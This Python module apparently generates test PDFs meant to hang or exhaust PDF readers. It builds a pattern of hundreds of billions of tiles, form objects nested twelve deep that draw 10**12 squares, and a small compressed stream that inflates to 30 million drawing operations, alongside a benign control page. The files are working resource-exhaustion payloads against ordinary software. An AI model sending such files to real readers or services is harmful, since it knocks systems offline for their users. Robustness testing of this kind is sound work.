"""PDFs made to hang or swell what reads them, small as files."""

from __future__ import annotations

import zlib
from collections.abc import Sequence

HELLO = (
    "/Font << /F1 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>",
    b"BT /F1 24 Tf 72 700 Td (Hello) Tj ET",
)
"""Resources and content of a page with one word on it."""

HANGING = ("/Pattern << /P1 90 0 R >>", b"/Pattern cs /P1 scn 0 0 600 700 re f")
"""A page filled with a pattern of 420 thousand million tiles: drawing it takes hours."""

NESTED = ("/XObject << /X 50 0 R >>", b"/X Do")
"""A page of forms that each draw the next ten times: 10**12 squares."""

SWELLING = ("/XObject << /X 50 0 R >>", zlib.compress(b"0 0 9 9 re f\n" * 30_000_000))
"""A page of 30 million squares, from half a megabyte: its parts take gigabytes."""

_FORM = "/Type /XObject /Subtype /Form /BBox [0 0 600 700]"
_DEPTH = 12

_SHARED = {
    90: (
        "/Type /Pattern /PatternType 1 /PaintType 1 /TilingType 1 /BBox [0 0 1 1] /XStep 0.001 /YStep 0.001"
        " /Resources << >>",
        b"0 0 1 1 re f",
    ),
    **{
        50 + level: (f"{_FORM} /Resources << /XObject << /X {51 + level} 0 R >> >>", b"/X Do " * 10)
        for level in range(_DEPTH - 1)
    },
    50 + _DEPTH - 1: (_FORM, b"0 0 99 99 re f"),
}


def hostile_pdf(pages: Sequence[tuple[str, bytes]]) -> bytes:
    """Return a PDF of ``pages``, each given as resources and content, deflated where it looks so."""
    kids = " ".join(f"{100 + 2 * index} 0 R" for index in range(len(pages)))
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>".encode(),
        **{number: _stream(entries, data) for number, (entries, data) in _SHARED.items()},
    }
    for index, (resources, content) in enumerate(pages):
        number = 100 + 2 * index
        objects[number] = (
            f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << {resources} >>"
            f" /Contents {number + 1} 0 R >>"
        ).encode()
        objects[number + 1] = _stream("/Filter /FlateDecode" if content.startswith(b"x") else "", content)
    body = b"".join(f"{number} 0 obj\n".encode() + data + b"\nendobj\n" for number, data in sorted(objects.items()))
    return b"%PDF-1.7\n" + body + b"trailer\n<< /Root 1 0 R >>\n%%EOF\n"  # readers find the objects themselves


def _stream(entries: str, data: bytes) -> bytes:
    return f"<< {entries} /Length {len(data)} >>\nstream\n".encode() + data + b"\nendstream"
